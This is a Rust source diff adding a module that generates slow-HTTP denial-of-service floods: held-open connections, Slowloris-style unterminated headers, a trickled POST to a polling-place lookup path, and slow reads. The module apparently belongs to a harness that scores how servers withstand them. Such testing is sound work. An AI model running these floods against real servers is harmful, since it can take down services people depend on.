@@ -1,0 +1,84 @@
+//! Floods that hold connections: as little as possible, for as long as the server is patient.
+
+use std::net::IpAddr;
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+
+use super::flood::{Fate, Running};
+use crate::clock::Moment;
+use crate::scenario::FloodKind;
+
+/// Between two drips.
+const DRIP: Duration = Duration::from_secs(2);
+/// Of one drip, when something is sent.
+const DRIP_BYTES: &[u8] = b"x";
+/// Pages asked for at once by a slow reader, so that there is more than the socket buffers hold.
+const SLOW_READ_PAGES: usize = 40;
+
+/// Opens a connection and holds it until the server closes it or the flood is over. Being closed is
+/// being refused.
+pub(super) async fn hold(running: &Running, source: IpAddr, target: &str) -> Fate {
+    let address = running.post.own.edge(source, running.post.port);
+    let left = running.ends.since(Moment::now());
+    let held = async {
+        let connecting = address.connect_with_narrow_window(source);
+        let mut stream = connecting.await.ok()?;
+        stream.write_all(start(running, target).as_bytes()).await.ok()?;
+        match running.flood.kind {
+            FloodKind::Connections => until_closed(&mut stream).await,
+            FloodKind::SlowRead => read_slowly(&mut stream).await,
+            _ => drip(&mut stream).await,
+        }
+        Some(Fate::Refused)
+    };
+    // Still open when the flood ends: the server held it all the time.
+    tokio::time::timeout(left, held).await.map_or(Fate::Served, |fate| fate.unwrap_or(Fate::Failed))
+}
+
+/// What is sent at once.
+fn start(running: &Running, target: &str) -> String {
+    let site = &running.post.site;
+    let get = format!("GET {target} HTTP/1.1\r\nHost: {site}\r\nUser-Agent: Mozilla/5.0\r\n");
+    match running.flood.kind {
+        FloodKind::SlowHeaders => format!("{get}X-Slow: "),
+        FloodKind::SlowBody => format!(
+            "POST /polling-place/lookup HTTP/1.1\r\nHost: {site}\r\nUser-Agent: Mozilla/5.0\r\n\
+             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
+        ),
+        FloodKind::SlowRead => format!("{get}\r\n").repeat(SLOW_READ_PAGES),
+        _ => String::new(),
+    }
+}
+
+async fn until_closed(stream: &mut TcpStream) {
+    let mut byte = [0];
+    while matches!(stream.read(&mut byte).await, Ok(1)) {}
+}
+
+/// Sends a byte now and then; an answer before the end is as good as a close.
+async fn drip(stream: &mut TcpStream) {
+    let mut byte = [0];
+    loop {
+        tokio::select! {
+            _ = stream.read(&mut byte) => return,
+            () = tokio::time::sleep(DRIP) => {
+                if stream.write_all(DRIP_BYTES).await.is_err() {
+                    return;
+                }
+            }
+        }
+    }
+}
+
+/// Takes a byte now and then.
+async fn read_slowly(stream: &mut TcpStream) {
+    let mut byte = [0];
+    loop {
+        tokio::time::sleep(DRIP).await;
+        if !matches!(stream.read(&mut byte).await, Ok(1)) {
+            return;
+        }
+    }
+}
